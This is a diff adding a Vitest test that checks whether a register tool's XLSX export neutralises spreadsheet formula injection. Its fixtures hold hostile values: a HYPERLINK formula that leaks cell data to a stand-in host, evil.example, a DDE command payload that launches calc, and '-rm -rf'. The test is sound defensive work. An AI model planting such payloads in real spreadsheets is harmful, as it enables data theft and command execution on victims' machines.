@@ -1,4 +1,5 @@
 import ExcelJS from 'exceljs';
+import fs from 'node:fs';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Activity } from '../../model/register.js';
@@ -277,6 +278,55 @@ describe('XLSX export options', () => {
       const { sheets } = await readWorkbook(file);
       expect(sheets.has('Registre sous-traitant')).toBe(true);
       expect(sheets.get('Détail des traitements')!.slice(1).map((x) => x[0])).toEqual(['P-001']);
+    } finally {
+      t.cleanup();
+    }
+  });
+});
+
+describe('XLSX formula injection', () => {
+  it('writes text starting with =, +, -, @ as plain text: no cell is a formula, every text is intact', async () => {
+    const t = openTempRegister();
+    try {
+      const org = await t.call('organisations/create', { organisation: { name: '=1+1' } });
+      const nasty = {
+        name: '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")',
+        purpose: '+33 4 72 00 00 00',
+        description: '-2+3',
+        owner: '@SUM(A1:A9)',
+        rights: 'Écrire à =cmd|\' /C calc\'!A0',
+        breaches: 'Escape _x0041_ kept',
+      };
+      await t.call('activities/create', {
+        organisationId: org.id,
+        activity: { ref: '=T-1', ...nasty, subPurposes: ['=2*3', '@x'], dataCategories: [{ label: '+cat', description: '=desc' }], securityMeasures: [{ type: 'other', precision: '-rm -rf' }] },
+      });
+      const file = path.join(t.dir, 'nasty.xlsx');
+      await t.call('export/file', { format: 'xlsx', lang: 'fr', out: file, scope: {} });
+      const wb = new ExcelJS.Workbook();
+      await wb.xlsx.readFile(file);
+      const texts: string[] = [];
+      let formulas = 0;
+      wb.eachSheet((ws) =>
+        ws.eachRow((row) =>
+          row.eachCell((c) => {
+            if (c.type === ExcelJS.ValueType.Formula || c.formula) formulas++;
+            texts.push(cellText(c));
+          }),
+        ),
+      );
+      expect(formulas).toBe(0);
+      for (const v of [...Object.values(nasty), '=T-1', '=1+1', '=2*3', '@x', '+cat', '=desc', '-rm -rf']) expect(texts, v).toContain(v);
+      // And at the XML level: no <f> element anywhere, every text an inline string.
+      const { unzipSync, strFromU8 } = await import('fflate');
+      const zip = unzipSync(new Uint8Array(fs.readFileSync(file)));
+      const sheetsXml = Object.entries(zip).filter(([n]) => n.includes('worksheets/sheet'));
+      expect(sheetsXml.length).toBeGreaterThan(5);
+      for (const [name, bytes] of sheetsXml) {
+        const xml = strFromU8(bytes);
+        expect(xml, name).not.toMatch(/<f[ >]/);
+        expect(xml, name).not.toMatch(/t="str"/);
+      }
     } finally {
       t.cleanup();
     }
